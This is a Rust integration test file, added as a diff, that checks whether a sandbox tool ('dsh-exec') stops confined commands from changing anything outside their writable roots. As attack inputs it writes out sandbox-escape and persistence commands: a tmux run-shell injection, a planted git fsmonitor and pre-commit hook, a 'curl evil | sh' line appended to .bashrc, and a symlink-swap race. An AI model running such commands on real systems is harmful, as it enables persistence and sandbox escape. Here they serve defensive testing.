@@ -1,0 +1,593 @@
+//! A confined command changes nothing outside its writable roots, directly
+//! or through another process: Unix sockets of outside daemons, file
+//! metadata, protected paths inside the roots, other terminals, keyrings,
+//! and a writable root swapped while the run starts. Root-only cases skip
+//! with the reason when not root.
+use crate::support::*;
+use serde_json::Value;
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+/// A workspace, a directory outside every writable root, and a temp dir.
+struct Dirs {
+    _root: tempfile::TempDir,
+    ws: PathBuf,
+    outside: PathBuf,
+    tmp: PathBuf,
+}
+
+fn dirs() -> Dirs {
+    let root = tempfile::tempdir().unwrap();
+    let [ws, outside, tmp] = ["ws", "outside", "tmp"].map(|n| root.path().join(n));
+    for d in [&ws, &outside, &tmp] {
+        std::fs::create_dir(d).unwrap();
+    }
+    Dirs {
+        _root: root,
+        ws,
+        outside,
+        tmp,
+    }
+}
+
+fn p(path: &Path) -> &str {
+    path.to_str().unwrap()
+}
+
+/// Runs `dsh-exec MODE ARGS -- SCRIPT` in `d.ws` with `$TMPDIR` = `d.tmp`.
+fn confined(d: &Dirs, mode: &str, args: &[&str], script: &str) -> Outcome {
+    Test::new()
+        .env("TMPDIR", &d.tmp)
+        .args(["-s", mode, "-C", p(&d.ws)])
+        .args(args)
+        .args(["--", script])
+        .run()
+}
+
+fn is_root() -> bool {
+    nix::unistd::geteuid().is_root()
+}
+
+fn have(tool: &str) -> bool {
+    Command::new("sh")
+        .args(["-c", &format!("command -v {tool}")])
+        .output()
+        .is_ok_and(|o| o.status.success())
+}
+
+/// A server outside the sandbox, killed when dropped.
+struct Server(Child);
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// Starts `python3 -c SCRIPT ARGS` and waits for `ready` to exist.
+fn python_server(script: &str, args: &[&str], ready: &Path) -> Server {
+    let child = Command::new("python3")
+        .args(["-c", script])
+        .args(args)
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let server = Server(child);
+    poll_until(Duration::from_secs(10), || ready.exists().then_some(()))
+        .expect("the server started");
+    server
+}
+
+#[test]
+fn a_tmux_server_outside_cannot_be_made_to_run_a_command() {
+    if !have("tmux") {
+        eprintln!("skipped: tmux is not installed");
+        return;
+    }
+    let d = dirs();
+    let sock = d.outside.join("tmux.sock");
+    let planted = d.outside.join("planted");
+    let status = Command::new("tmux")
+        .args(["-S", p(&sock), "new-session", "-d", "sleep 300"])
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let attack = format!("tmux -S {} run-shell 'touch {}'", p(&sock), p(&planted));
+    let out = confined(&d, "read-only", &["--network", "deny", "--json"], &attack);
+    let refused = !planted.exists();
+    // With the socket allowed, the same command reaches the server: the
+    // gate is what stopped it.
+    let allowed = confined(
+        &d,
+        "read-only",
+        &["--network", "deny", "--allow-unix-socket", p(&sock)],
+        &attack,
+    );
+    let reached = planted.exists();
+    let _ = Command::new("tmux")
+        .args(["-S", p(&sock), "kill-server"])
+        .status();
+    assert!(refused, "the tmux server ran the command: {}", out.stdout);
+    let v = out.json();
+    assert_ne!(v["exit_code"], 0, "{v}");
+    assert_eq!(v["sandbox"]["denied"], true, "{v}");
+    assert!(reached, "with --allow-unix-socket: {}", allowed.stdout);
+}
+
+/// An outside server that sends every client a writable descriptor of an
+/// outside file (SCM_RIGHTS).
+const FD_PASSER: &str = r#"
+import socket, sys, os, array
+path, target, ready = sys.argv[1:4]
+s = socket.socket(socket.AF_UNIX); s.bind(path); s.listen(5)
+open(ready, "w").close()
+while True:
+    c, _ = s.accept()
+    fd = os.open(target, os.O_WRONLY)
+    c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
+    os.close(fd); c.close()
+"#;
+
+#[test]
+fn a_descriptor_passing_server_outside_hands_out_nothing() {
+    let d = dirs();
+    let sock = d.outside.join("fd.sock");
+    let target = d.outside.join("target");
+    std::fs::write(&target, "original\n").unwrap();
+    let ready = d.outside.join("ready");
+    let _server = python_server(FD_PASSER, &[p(&sock), p(&target), p(&ready)], &ready);
+    let client = format!(
+        r#"python3 -c '
+import socket, array, os
+s = socket.socket(socket.AF_UNIX); s.connect("{}")
+msg, anc, _, _ = s.recvmsg(1, 64)
+fd = array.array("i", anc[0][2])[0]
+os.write(fd, b"overwritten\n")
+'"#,
+        p(&sock)
+    );
+    for mode in ["read-only", "workspace-write"] {
+        let out = confined(&d, mode, &[], &client);
+        assert_ne!(out.status, 0, "{mode}: {}", out.stdout);
+        assert!(
+            out.stdout.contains("PermissionError"),
+            "{mode}: {}",
+            out.stdout
+        );
+    }
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original\n");
+}
+
+#[test]
+fn sockets_the_command_makes_in_the_workspace_work() {
+    let d = dirs();
+    // A pathname socket, server and client both inside.
+    let script = r#"python3 -c '
+import socket, threading
+srv = socket.socket(socket.AF_UNIX); srv.bind("inside.sock"); srv.listen(1)
+def serve():
+    c, _ = srv.accept(); c.sendall(b"pong"); c.close()
+threading.Thread(target=serve).start()
+s = socket.socket(socket.AF_UNIX); s.connect("inside.sock"); print(s.recv(4).decode())
+'"#;
+    let out = confined(&d, "workspace-write", &["--network", "deny"], script);
+    assert_eq!(
+        (out.stdout.as_str(), out.status),
+        ("pong\n[exit code: 0]\n", 0)
+    );
+    // multiprocessing.Manager listens on an abstract socket it owns.
+    let manager = r#"python3 -c '
+from multiprocessing import Manager
+with Manager() as m:
+    d = m.dict(); d["k"] = 42; print(d["k"])
+'"#;
+    let out = confined(&d, "workspace-write", &[], manager);
+    assert_eq!(
+        (out.stdout.as_str(), out.status),
+        ("42\n[exit code: 0]\n", 0)
+    );
+}
+
+/// An abstract Unix socket held by a process outside the run.
+#[test]
+fn an_abstract_socket_outside_is_refused() {
+    let d = dirs();
+    let ready = d.outside.join("ready");
+    let name = format!("dsh-exec-test-{}", std::process::id());
+    let server = r#"
+import socket, sys
+s = socket.socket(socket.AF_UNIX); s.bind("\0" + sys.argv[1]); s.listen(5)
+open(sys.argv[2], "w").close()
+while True:
+    c, _ = s.accept(); c.sendall(b"outside"); c.close()
+"#;
+    let _server = python_server(server, &[&name, p(&ready)], &ready);
+    let client = format!(
+        r#"python3 -c '
+import socket
+s = socket.socket(socket.AF_UNIX); s.connect("\0{name}"); print(s.recv(7))
+'"#
+    );
+    let out = confined(&d, "read-only", &[], &client);
+    assert!(out.stdout.contains("PermissionError"), "{}", out.stdout);
+    assert_ne!(out.status, 0);
+}
+
+#[test]
+fn metadata_outside_the_roots_stays_as_it_was() {
+    let d = dirs();
+    let file = d.outside.join("f");
+    std::fs::write(&file, "x").unwrap();
+    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let before = std::fs::metadata(&file).unwrap();
+    for mode in ["read-only", "workspace-write"] {
+        for attack in [
+            format!("chmod 0777 {}", p(&file)),
+            format!("touch -d 2001-01-01 {}", p(&file)),
+            format!("chown 0:0 {}", p(&file)),
+            // A descriptor opened for reading must not change the file either.
+            format!(
+                "python3 -c 'import os; fd = os.open(\"{}\", os.O_RDONLY); os.fchmod(fd, 0o777)'",
+                p(&file)
+            ),
+        ] {
+            let out = confined(&d, mode, &[], &attack);
+            assert_ne!(out.status, 0, "{mode}: {attack}: {}", out.stdout);
+        }
+    }
+    let after = std::fs::metadata(&file).unwrap();
+    assert_eq!(after.mode(), before.mode());
+    assert_eq!(after.mtime(), before.mtime());
+    assert_eq!((after.uid(), after.gid()), (before.uid(), before.gid()));
+}
+
+#[test]
+fn chown_to_root_of_an_outside_setuid_file_keeps_its_mode_and_owner() {
+    if !is_root() {
+        eprintln!("skipped: needs root (a setuid file of another owner)");
+        return;
+    }
+    let d = dirs();
+    let file = d.outside.join("suid");
+    std::fs::write(&file, "#!/bin/sh\n").unwrap();
+    nix::unistd::chown(&file, Some(1000.into()), Some(1000.into())).unwrap();
+    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o4755)).unwrap();
+    let out = confined(&d, "read-only", &[], &format!("chown root {}", p(&file)));
+    assert_ne!(out.status, 0, "{}", out.stdout);
+    let m = std::fs::metadata(&file).unwrap();
+    assert_eq!((m.mode() & 0o7777, m.uid(), m.gid()), (0o4755, 1000, 1000));
+}
+
+#[test]
+fn ordinary_metadata_work_inside_the_workspace_works() {
+    let d = dirs();
+    let script = "echo x > a && chmod +x a && install -m 755 a b && mkdir src && echo y > src/f \
+        && touch -d 2001-01-01 src/f && cp -a src copy && tar -cpf t.tar src \
+        && mkdir out && tar -xpf t.tar -C out && setfattr -n user.k -v v a 2>/dev/null; \
+        stat -c '%a %n' a b copy/f out/src/f && chmod u+s a; echo setuid=$?";
+    let out = confined(&d, "workspace-write", &[], script);
+    assert_eq!(
+        out.stdout,
+        "755 a\n755 b\n644 copy/f\n644 out/src/f\nsetuid=1\n[stderr]\nchmod: changing permissions of 'a': Operation not permitted\n[sandbox: workspace-write; a write was denied]\n[exit code: 0]\n"
+    );
+    let copied = std::fs::metadata(d.ws.join("copy/f")).unwrap();
+    assert_eq!(
+        copied.mtime(),
+        std::fs::metadata(d.ws.join("src/f")).unwrap().mtime()
+    );
+    // set-group-ID on a directory is fine, on a file it is not.
+    let out = confined(
+        &d,
+        "workspace-write",
+        &[],
+        "mkdir g && chmod g+s g && stat -c %A g && chmod g+s a; echo file=$?",
+    );
+    assert!(
+        out.stdout.starts_with("drwxr-sr-x\nfile=1\n"),
+        "{}",
+        out.stdout
+    );
+}
+
+/// A repository in `dir` with one commit.
+fn repository(dir: &Path) {
+    let git = |args: &[&str]| {
+        let s = Command::new("git")
+            .args(args)
+            .current_dir(dir)
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .stdout(Stdio::null())
+            .status()
+            .unwrap();
+        assert!(s.success(), "git {args:?}");
+    };
+    git(&["init", "-q"]);
+    git(&[
+        "-c",
+        "user.name=t",
+        "-c",
+        "user.email=t@t",
+        "commit",
+        "-q",
+        "--allow-empty",
+        "-m",
+        "init",
+    ]);
+}
+
+#[test]
+fn a_planted_git_config_or_hook_does_not_reach_the_next_git_run() {
+    if !have("git") {
+        eprintln!("skipped: git is not installed");
+        return;
+    }
+    let d = dirs();
+    repository(&d.ws);
+    let config = std::fs::read(d.ws.join(".git/config")).unwrap();
+    let hook = d.ws.join(".git/hooks/pre-commit");
+    let plant = format!(
+        "git config core.fsmonitor 'touch {o}/ran'; printf '#!/bin/sh\\ntouch {o}/ran\\n' > .git/hooks/pre-commit; \
+         mv .git .git-moved; mkdir -p sub/.git; true",
+        o = p(&d.outside)
+    );
+    let out = confined(&d, "workspace-write", &["--json"], &plant);
+    assert_eq!(out.status, 0, "{}", out.stdout);
+    assert_eq!(std::fs::read(d.ws.join(".git/config")).unwrap(), config);
+    assert!(!hook.exists(), "a hook was planted");
+    assert!(d.ws.join(".git/HEAD").exists(), ".git was moved away");
+    // Work inside the repository goes on as usual.
+    let work = "git -c user.name=t -c user.email=t@t commit -q --allow-empty -m two && git branch b \
+        && git stash list && git log --oneline | wc -l";
+    let out = confined(
+        &d,
+        "workspace-write",
+        &["-e", "GIT_CONFIG_GLOBAL=/dev/null"],
+        work,
+    );
+    assert_eq!(
+        (out.stdout.as_str(), out.status),
+        ("2\n[exit code: 0]\n", 0)
+    );
+    // A repository the run makes itself is its own.
+    let out = confined(
+        &d,
+        "workspace-write",
+        &["-e", "GIT_CONFIG_GLOBAL=/dev/null"],
+        "mkdir fresh && cd fresh && git init -q --shared=group && git config user.name x && echo ok",
+    );
+    assert_eq!(out.stdout, "ok\n[exit code: 0]\n");
+    // The next git outside runs nothing planted.
+    let status = Command::new("git")
+        .args(["status", "--short"])
+        .current_dir(&d.ws)
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .output()
+        .unwrap();
+    assert!(status.status.success());
+    assert!(!d.outside.join("ran").exists());
+}
+
+#[test]
+fn shell_start_up_files_in_a_writable_home_stay_as_they_were() {
+    let d = dirs();
+    let home = d.ws.join("home");
+    std::fs::create_dir(&home).unwrap();
+    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
+    let out = Test::new()
+        .env("TMPDIR", &d.tmp)
+        .env("HOME", &home)
+        .args(["-s", "workspace-write", "--json", "-C", p(&d.ws), "--"])
+        .arg("echo 'curl evil | sh' >> home/.bashrc; echo 'x' > home/.zshrc; ls -a home | grep -c zshrc")
+        .run();
+    let v = out.json();
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "# mine\n"
+    );
+    assert!(!home.join(".zshrc").exists(), "a new start-up file stayed");
+    let changes = v["sandbox"]["protected_changes"].as_array().unwrap();
+    assert!(
+        changes.iter().any(|c| c["path"] == p(&home.join(".zshrc"))
+            && c["change"] == "created"
+            && c["restored"] == true),
+        "{v}"
+    );
+}
+
+#[test]
+fn a_writable_root_swapped_for_a_symlink_while_runs_start_grants_nothing_outside() {
+    use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
+    let d = dirs();
+    let root = d.ws.join("cache");
+    let link = d.ws.join("cache-link");
+    std::fs::create_dir(&root).unwrap();
+    std::os::unix::fs::symlink(&d.outside, &link).unwrap();
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let swapper = {
+        let (root, link, stop) = (root.clone(), link.clone(), stop.clone());
+        std::thread::spawn(move || {
+            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+                let _ = renameat2(
+                    AT_FDCWD,
+                    &root,
+                    AT_FDCWD,
+                    &link,
+                    RenameFlags::RENAME_EXCHANGE,
+                );
+            }
+        })
+    };
+    let other_ws = d.tmp.join("ws2");
+    std::fs::create_dir(&other_ws).unwrap();
+    for i in 0..300 {
+        let _ = Test::new()
+            .env("TMPDIR", &d.tmp)
+            .args([
+                "-s",
+                "workspace-write",
+                "--no-temp-write",
+                "-C",
+                p(&other_ws),
+            ])
+            .args(["--writable-root", p(&root), "--"])
+            .arg(format!("touch {}/x{i} 2>/dev/null; true", p(&d.outside)))
+            .run();
+    }
+    stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    swapper.join().unwrap();
+    let written: Vec<_> = std::fs::read_dir(&d.outside)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name())
+        .collect();
+    assert!(written.is_empty(), "written outside: {written:?}");
+}
+
+#[test]
+fn other_terminals_keyrings_and_the_network_devices_are_out_of_reach() {
+    let d = dirs();
+    // A pseudo-terminal made here stands for another terminal of the user.
+    let (master, slave) = {
+        let pty = nix::pty::openpty(None, None).unwrap();
+        (pty.master, pty.slave)
+    };
+    let tty = nix::unistd::ttyname(&slave).unwrap();
+    for mode in ["read-only", "workspace-write"] {
+        let out = confined(
+            &d,
+            mode,
+            &[],
+            &format!(
+                "echo hi > {t} || stty -F {t} cols 1; echo rc=$?",
+                t = tty.display()
+            ),
+        );
+        assert!(out.stdout.starts_with("rc=1\n"), "{mode}: {}", out.stdout);
+    }
+    drop((master, slave));
+    // The keyrings are shared with processes outside: refused.
+    let keyctl = "python3 -c 'import ctypes, os; l = ctypes.CDLL(None, use_errno=True); \
+        r = l.syscall(250, 0, -3, 0); print(r, os.strerror(ctypes.get_errno()) if r < 0 else \"\")'";
+    let out = confined(&d, "read-only", &[], keyctl);
+    assert!(
+        out.stdout.starts_with("-1 Operation not permitted\n"),
+        "{}",
+        out.stdout
+    );
+    // --network deny: netlink families beyond route, sock_diag and uevent
+    // are refused; route still works.
+    let netlink = "python3 -c '
+import socket
+for proto in (0, 16, 12):
+    try:
+        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto); print(proto, \"ok\")
+    except OSError as e:
+        print(proto, e.strerror)
+'";
+    let out = Test::new().args(["--network", "deny", "--", netlink]).run();
+    assert_eq!(
+        out.stdout,
+        "0 ok\n16 Permission denied\n12 Permission denied\n[exit code: 0]\n"
+    );
+    if !is_root() || !Path::new("/dev/net/tun").exists() {
+        eprintln!("skipped the tun check: needs root and /dev/net/tun");
+        return;
+    }
+    // As root in full-access, --network deny drops CAP_NET_ADMIN: no tun.
+    let tun = "python3 -c '
+import fcntl, os, struct
+fd = os.open(\"/dev/net/tun\", os.O_RDWR)
+try:
+    fcntl.ioctl(fd, 0x400454ca, struct.pack(\"16sH\", b\"dshtest0\", 1)); print(\"created\")
+except OSError as e:
+    print(e.strerror)
+'";
+    let out = Test::new().args(["--network", "deny", "--", tun]).run();
+    assert_eq!(out.stdout, "Operation not permitted\n[exit code: 0]\n");
+}
+
+#[test]
+fn control_socket_variables_are_not_passed_to_a_confined_command() {
+    let out = Test::new()
+        .env("TMUX", "/tmp/tmux-0/default,1,0")
+        .env("STY", "1.pts-0")
+        .args(["-s", "read-only", "--", "echo \"[$TMUX][$STY]\""])
+        .run();
+    assert_eq!(out.stdout, "[][]\n[exit code: 0]\n");
+    let out = Test::new()
+        .env("TMUX", "/tmp/tmux-0/default,1,0")
+        .args(["--", "echo \"[$TMUX]\""])
+        .run();
+    assert_eq!(out.stdout, "[/tmp/tmux-0/default,1,0]\n[exit code: 0]\n");
+}
+
+#[test]
+fn a_config_file_that_is_a_fifo_or_a_device_is_refused_at_once() {
+    let d = dirs();
+    let fifo = d.tmp.join("config.toml");
+    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
+    for path in [fifo.as_path(), Path::new("/dev/zero")] {
+        let t0 = std::time::Instant::now();
+        let out = Test::new()
+            .env("DSH_EXEC_CONFIG", path)
+            .args(["--", "true"])
+            .run();
+        assert_eq!(out.status, 125, "{}", out.stderr);
+        assert!(
+            out.stderr.contains("not a regular file (CONFIG_INVALID)"),
+            "{}",
+            out.stderr
+        );
+        assert!(t0.elapsed() < Duration::from_secs(5));
+    }
+}
+
+#[test]
+fn a_forged_supervisor_record_makes_job_kill_signal_nothing_else() {
+    let runtime = tempfile::tempdir().unwrap();
+    let run = |args: &[&str]| {
+        let out = dsh()
+            .env("XDG_RUNTIME_DIR", runtime.path())
+            .args(args)
+            .output()
+            .unwrap();
+        (stdout(&out), code(&out))
+    };
+    let (id, _) = run(&["--background", "--", "sleep 30"]);
+    let id = id.trim().to_string();
+    let dir = runtime.path().join("dsh-exec/jobs").join(&id);
+    let real: Value =
+        serde_json::from_slice(&std::fs::read(dir.join("supervisor.json")).unwrap()).unwrap();
+    // An unrelated process, and a record naming it with its real start time.
+    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
+    let stat = std::fs::read_to_string(format!("/proc/{}/stat", victim.id())).unwrap();
+    let start: u64 = stat
+        .rsplit(')')
+        .next()
+        .unwrap()
+        .split_whitespace()
+        .nth(19)
+        .unwrap()
+        .parse()
+        .unwrap();
+    std::fs::write(
+        dir.join("supervisor.json"),
+        format!("{{\"pid\":{},\"start\":{start}}}", victim.id()),
+    )
+    .unwrap();
+    let (text, status) = run(&["job", "kill", &id]);
+    let victim_alive = victim.try_wait().unwrap().is_none();
+    let _ = victim.kill();
+    let _ = victim.wait();
+    std::fs::write(dir.join("supervisor.json"), real.to_string()).unwrap();
+    let _ = run(&["job", "kill", &id]);
+    assert!(
+        victim_alive,
+        "job kill signalled an unrelated process: {text}"
+    );
+    assert_eq!(status, 1, "{text}");
+}
